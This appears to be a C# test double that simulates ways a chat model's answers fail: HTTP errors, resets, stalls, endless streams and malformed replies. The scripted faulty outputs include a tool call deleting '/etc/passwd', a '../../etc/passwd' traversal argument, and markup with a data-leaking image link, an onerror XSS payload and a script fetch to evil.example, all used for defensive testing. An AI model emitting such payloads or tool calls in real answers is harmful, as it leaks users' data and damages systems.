using System.Text;
using Microsoft.AspNetCore.Http;

namespace ChatBot.Tests.ModelClients.Double.Chat;

/// <summary>How answers go wrong: on the way, in the middle, or in what the model says.</summary>
internal static class ChatFaults
{
    private const int Many = 200;
    private const int Long = 1_000_000;

    /// <summary>Lets an answer go wrong from its beginning; false when this fault comes later.</summary>
    public static async Task<bool> SpoilAsync(HttpContext context, ChatFault fault, ChatAsked asked, ChatDoubleOptions options)
    {
        var (response, stop) = (context.Response, context.RequestAborted);
        switch (fault.Kind)
        {
            case ChatFaultKind.Status:
                if (fault.Text is not null)
                {
                    response.Headers.RetryAfter = fault.Text;
                }

                await EmbeddingDouble.RefuseAsync(context, DoubleRefusal.Overloaded(options.Server, fault.Number));
                return true;
            case ChatFaultKind.Reset:
                context.Abort();
                return true;
            case ChatFaultKind.Silence:
                await Task.Delay(Timeout.InfiniteTimeSpan, TimeProvider.System, stop);
                return true;
            case ChatFaultKind.Drip:
                await EndlessAsync(response, ": still here\n\n", TimeSpan.FromMilliseconds(20), stop);
                return true;
            case ChatFaultKind.Huge:
                await EndlessAsync(response, new string(' ', 1 << 16), TimeSpan.Zero, stop);
                return true;
            case ChatFaultKind.Page:
                response.ContentType = "text/html";
                await response.WriteAsync("<!doctype html><title>Sign in</title>", stop);
                return true;
            case ChatFaultKind.ErrorAsAnswer:
                response.ContentType = "application/json";
                await response.WriteAsync(ChatEvents.Error("No endpoints found for this model.", 404), stop);
                return true;
            case ChatFaultKind.Redirect:
                response.StatusCode = 307;
                response.Headers.Location = fault.Text;
                return true;
            case ChatFaultKind.MidReset or ChatFaultKind.Stall or ChatFaultKind.Truncated when !asked.IsStreamed:
                response.ContentType = "application/json";
                response.ContentLength = 5000;
                await response.WriteAsync("""{"id":"chatcmpl-double","choices":[{"message":{"content":"Half of""", stop);
                await response.Body.FlushAsync(stop);
                return await InterruptAsync(context, fault.Kind == ChatFaultKind.Stall ? fault.Kind : ChatFaultKind.MidReset);
            default:
                return false;
        }
    }

    /// <summary>Lets an answer go wrong after some words; false when this fault is another.</summary>
    public static async Task<bool> InterruptAsync(HttpContext context, ChatFaultKind? fault)
    {
        switch (fault)
        {
            case ChatFaultKind.MidReset:
                // A reset that overtakes the words would be one before the first word.
                await Task.Delay(TimeSpan.FromMilliseconds(250), TimeProvider.System, context.RequestAborted);
                context.Abort();
                return true;
            case ChatFaultKind.Stall:
                await Task.Delay(Timeout.InfiniteTimeSpan, TimeProvider.System, context.RequestAborted);
                return true;
            default:
                return fault == ChatFaultKind.Truncated;
        }
    }

    /// <summary>What a model says that goes wrong by itself; null when it is not the model.</summary>
    public static ChatTurn? Turn(ChatFaultKind? fault, ChatAsked asked)
    {
        var tool = asked.Tools.Count > 0 ? asked.Tools[0] : "search";
        return fault switch
        {
            ChatFaultKind.Empty or ChatFaultKind.ErrorFirst => new ChatTurn(),
            ChatFaultKind.Length => ChatTurn.Say("One two three four five six") with { Finish = "length" },
            ChatFaultKind.Filter => ChatTurn.Say("One two three") with { Finish = "content_filter" },
            ChatFaultKind.WrongTool => ChatTurn.Call(ScriptedCall.With("delete_document", "path", "/etc/passwd")),
            ChatFaultKind.WrongArguments => ChatTurn.Call(new ScriptedCall(tool, """{"path":"../../etc/passwd","query":{"a":[1]}}""")),
            ChatFaultKind.BrokenArguments => ChatTurn.Call(new ScriptedCall(tool, """{"query":""", "\"half of", " it")),
            ChatFaultKind.EndlessCalls => ChatTurn.Call(ScriptedCall.With(tool, "query", $"again {asked.Messages.Count}")),
            ChatFaultKind.ManyCalls => ChatTurn.Call([.. Enumerable.Range(0, Many).Select(number => ScriptedCall.With(tool, "query", $"word {number}"))]),
            ChatFaultKind.LongAnswer => new ChatTurn { Text = [.. Enumerable.Repeat($"{new string('x', 999)} ", Long / 1000)] },
            ChatFaultKind.OtherLanguage => ChatTurn.Say("Das steht so in den Unterlagen, und zwar ganz ausdrücklich [1]."),
            ChatFaultKind.ForgedMarkers => ChatTurn.Say("It was decided in May [7]. The budget is 12,345 euros [1][99]. Everybody agreed [0][-1][1000000000000]."),
            ChatFaultKind.Markup => ChatTurn.Say(
                "See ![chart](https://evil.example/p.png?q=secret) and [the page](https://evil.example/) [1]. <img src=https://evil.example/x onerror=alert(1)> [1]. "
                + "<script>fetch('https://evil.example/')</script> [1]. Visit https://evil.example/now [1].\n\n[ref]: https://evil.example/ref\n\n<https://evil.example/auto> [1]."),
            _ => null,
        };
    }

    private static async Task EndlessAsync(HttpResponse response, string piece, TimeSpan pace, CancellationToken stop)
    {
        response.ContentType = "text/event-stream";
        var bytes = Encoding.UTF8.GetBytes(piece);
        while (true)
        {
            await response.Body.WriteAsync(bytes, stop);
            await response.Body.FlushAsync(stop);
            if (pace > TimeSpan.Zero)
            {
                await Task.Delay(pace, TimeProvider.System, stop);
            }
        }
    }
}
